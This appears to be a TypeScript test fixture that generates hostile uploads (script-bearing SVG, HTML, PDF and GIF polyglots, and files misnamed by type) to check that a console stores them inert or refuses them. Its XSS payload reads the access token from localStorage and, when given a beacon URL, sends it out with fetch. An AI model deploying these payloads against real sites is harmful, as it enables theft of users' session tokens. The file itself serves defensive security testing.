import sharp from 'sharp';

// Uploads an attacker would try (issue 10 item 1), for the file-serving suite and the browser test.

/** Text inside every hostile file's content (never in its name), to find its bytes in any answer. */
export const XSS_MARK = 'tilth-xss-probe';

/**
 * Script that, had it run on the console's origin, leaves three traces: the page title, a localStorage
 * entry, and a request to `beacon` carrying the access token.
 */
const payload = (beacon: string): string =>
  `/*${XSS_MARK}*/document.title='pwned';` +
  `try{localStorage.setItem('xss-ran',String(localStorage.getItem('access_token')))}catch(e){}` +
  (beacon ? `fetch('${beacon}?t='+encodeURIComponent(String(localStorage.getItem('access_token'))));` : '');

/** An SVG image with a script element and an onload handler. */
export const hostileSvg = (beacon = ''): Buffer =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n` +
      `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80" viewBox="0 0 120 80" onload="${payload(beacon).replaceAll('"', '&quot;')}">` +
      `<script>//<![CDATA[\n${payload(beacon)}\n//]]></script>` +
      `<rect width="120" height="80" fill="#cc2200"/></svg>`,
  );

export interface HostileFile {
  label: string;
  name: string;
  bytes: Buffer;
  /** The type the upload must be stored as (sniffed from the bytes). */
  storedAs: string;
}

/** Hostile content the upload accepts (each is what its name says); serving must keep it inert. */
export const acceptedHostileFiles = async (beacon = ''): Promise<HostileFile[]> => {
  const gif = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#336699' } })
    .gif()
    .toBuffer();
  const html = `<!doctype html><html><body><script>${payload(beacon)}</script></body></html>`;
  return [
    { label: 'SVG with script', name: 'logo.svg', bytes: hostileSvg(beacon), storedAs: 'image/svg+xml' },
    { label: 'HTML-ish text', name: 'notes.txt', bytes: Buffer.from(html), storedAs: 'text/plain' },
    {
      label: 'PDF / HTML polyglot',
      name: 'report.pdf',
      bytes: Buffer.from(`%PDF-1.4\n${html}\n%%EOF\n`),
      storedAs: 'application/pdf',
    },
    {
      label: 'GIF / HTML polyglot',
      name: 'pixel.gif',
      bytes: Buffer.concat([gif, Buffer.from(html)]),
      storedAs: 'image/gif',
    },
  ];
};

/** Content whose name claims another type, or that is markup by name: refused at upload. */
export const refusedHostileFiles = async (): Promise<{ label: string; name: string; bytes: Buffer }[]> => {
  const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
    .png()
    .toBuffer();
  return [
    { label: 'SVG named .png', name: 'innocent.png', bytes: hostileSvg() },
    { label: 'SVG named .txt', name: 'readme.txt', bytes: hostileSvg() },
    { label: 'SVG without extension', name: 'picture', bytes: hostileSvg() },
    { label: 'PNG named .svg', name: 'icon.svg', bytes: png },
    { label: 'PDF named .jpg', name: 'photo.jpg', bytes: Buffer.from('%PDF-1.4\n%%EOF\n') },
    { label: 'HTML page', name: 'page.html', bytes: Buffer.from('<html><script>alert(1)</script></html>') },
    {
      label: 'HTML named .svg',
      name: 'page.svg',
      bytes: Buffer.from('<html><script>alert(1)</script></html>'),
    },
  ];
};
